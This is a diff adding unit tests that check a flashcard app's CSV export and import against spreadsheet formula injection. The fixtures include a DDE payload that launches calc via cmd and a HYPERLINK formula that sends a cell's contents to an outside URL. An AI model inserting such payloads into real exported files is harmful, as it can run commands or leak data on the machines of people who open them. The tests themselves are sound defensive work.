@@ -159,6 +159,55 @@ describe('deckToCsv', () => {
   });
 });
 
+describe('CSV injection (issue 21)', () => {
+  const FORMULAS = [
+    '=HYPERLINK("https://example.com/?x="&A1, "Click")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1:A9)',
+    "'=already quoted",
+    "''@twice",
+    "'plain quote stays"
+  ];
+  const hostile: Deck = {
+    ...AWKWARD,
+    cards: FORMULAS.map((text, i) => ({
+      id: `f${i}`,
+      type: 'basic' as const,
+      front: text,
+      back: `${text} (back)`,
+      tags: ['-tag', '=tag']
+    }))
+  };
+
+  it('starts no exported cell with a formula character: each gets a leading quote mark', () => {
+    const rows = Papa.parse<string[]>(deckToCsv(hostile).trim()).data.slice(1);
+    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows[0][0]).toBe(`'${FORMULAS[0]}`);
+    expect(rows[4][0]).toBe(`''=already quoted`);
+    expect(rows[6][0]).toBe("'plain quote stays");
+    expect(rows[0][2]).toBe("'-tag =tag");
+  });
+
+  it('reads its own export back exactly: the quote mark it added is taken off again', () => {
+    const imported = deckOf(importCsv(hostile));
+    expect(imported.cards.map((c) => (c.type === 'basic' ? [c.front, c.back] : []))).toEqual(
+      FORMULAS.map((f) => [f, `${f} (back)`])
+    );
+    expect(imported.cards[0].tags).toEqual(['-tag', '=tag']);
+  });
+
+  it('reads a spreadsheet\'s text prefix the same way in any CSV or TSV: "\'=x" is the text "=x"', () => {
+    const csv = deckOf(parseImport({ text: "'=1+1,'-3\n'hello,''+x\n", format: 'csv' }));
+    expect(csv.cards.map((c) => (c.type === 'basic' ? [c.front, c.back] : []))).toEqual([
+      ['=1+1', '-3'],
+      ["'hello", "'+x"]
+    ]);
+    const tsv = deckOf(parseImport({ text: "'@a\t'=b\n", format: 'tsv' }));
+    expect(tsv.cards[0]).toMatchObject({ front: '@a', back: '=b' });
+  });
+});
+
 describe('exportFileName', () => {
   it('names the file after the deck id', () => {
     expect(exportFileName({ id: 'world-capitals' }, 'yaml')).toBe('world-capitals.deck.yaml');
